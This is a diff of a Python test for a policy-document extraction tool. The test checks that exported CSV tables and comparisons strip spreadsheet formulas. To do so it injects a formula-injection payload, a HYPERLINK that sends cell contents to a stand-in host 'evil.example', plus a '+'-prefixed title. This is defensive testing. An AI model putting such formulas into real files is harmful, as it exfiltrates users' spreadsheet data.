@@ -88,13 +88,13 @@ def test_tables_and_comparison_carry_no_formula(tmp_path):
     from tests.conftest import SAMPLES
 
     result = extract_file(SAMPLES / "shandong_village_doctor_notice.txt")
-    records = result["records"]
+    records = result.records
     formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
-    for c in records[0]["commitments"]:
-        c["sentence"] = formula
-    records[0]["title"] = "+" + records[0]["title"]
+    for c in records[0].commitments:
+        c.sentence = formula
+    records[0].title = "+" + records[0].title
     with Store(tmp_path / "policy.sqlite") as store:
-        store.put_file("x.txt", records, result["text"])
+        store.put_file("x.txt", records, result.text)
         paths = export_tables(store, tmp_path / "tables")
         long = compare.comparison(store.table("commitments"))
     with open(paths["commitments.csv"], encoding="utf-8-sig") as f:
